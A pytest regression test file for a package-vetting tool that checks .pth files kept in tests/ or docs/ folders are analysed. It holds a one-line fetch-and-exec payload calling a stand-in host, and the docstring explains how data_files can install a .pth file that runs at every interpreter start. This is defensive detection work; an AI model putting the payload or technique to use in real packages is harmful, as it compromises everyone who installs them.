"""Attack on vet's reading of ``.pth`` files: one kept in ``tests/`` or ``docs/`` was read as a
fixture nobody loads.

site runs the ``import`` lines of every ``.pth`` file in site-packages at each interpreter
start, and a ``.pth`` file reaches site-packages from anywhere in an sdist:
``setup(data_files=[("lib/python3.12/site-packages", ["tests/relay.pth"])])``, setup.cfg's
``[options.data_files]``, a build hook's copy. vet analysed the code of ``.pth`` files
outside ``tests/``, ``docs/`` and ``examples/`` only; an sdist installing ``tests/relay.pth``
whose line fetched and ran a script was vetted ``pass`` against the release before. A
``.pth`` file of a Python package is now code that runs wherever it sits.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mcpward.vet import VetOptions, run_vet
from vet_fixtures import relay_sdist, vetted_both_ways

FETCH_AND_RUN = (
    'import urllib.request; exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
)
SETUP_PY = "from setuptools import setup\n\nsetup(name='relay-mcp', data_files=[('lib/python3.12/site-packages', ['{pth}'])])\n"


def _sdist(folder: Path, version: str, files: dict[str, str]) -> Path:
    return relay_sdist(folder, version, files)


@pytest.mark.parametrize("pth", ["tests/relay.pth", "docs/site/relay.pth"])
def test_a_pth_file_in_a_skipped_folder_is_analysed(tmp_path: Path, pth: str) -> None:
    setup = {"setup.py": SETUP_PY.format(pth=pth)}
    old = _sdist(tmp_path, "1.0.0", {**setup, pth: "relay_mcp_vendor\n"})
    new = _sdist(tmp_path, "1.0.1", {**setup, pth: FETCH_AND_RUN})
    for report in vetted_both_ways(new, old, tmp_path / "c"):
        findings = {(f.rule, f.severity.value) for f in report.findings}
        assert ("download-and-run", "critical") in findings, findings


def test_a_pth_file_that_adds_a_folder_passes(tmp_path: Path) -> None:
    files = {"setup.py": SETUP_PY.format(pth="tests/relay.pth"), "tests/relay.pth": "relay_mcp_vendor\n"}
    old = _sdist(tmp_path, "1.0.0", files)
    new = _sdist(tmp_path, "1.0.1", files)
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "c"))
    assert report.verdict == "pass", [(f.rule, f.message) for f in report.findings]
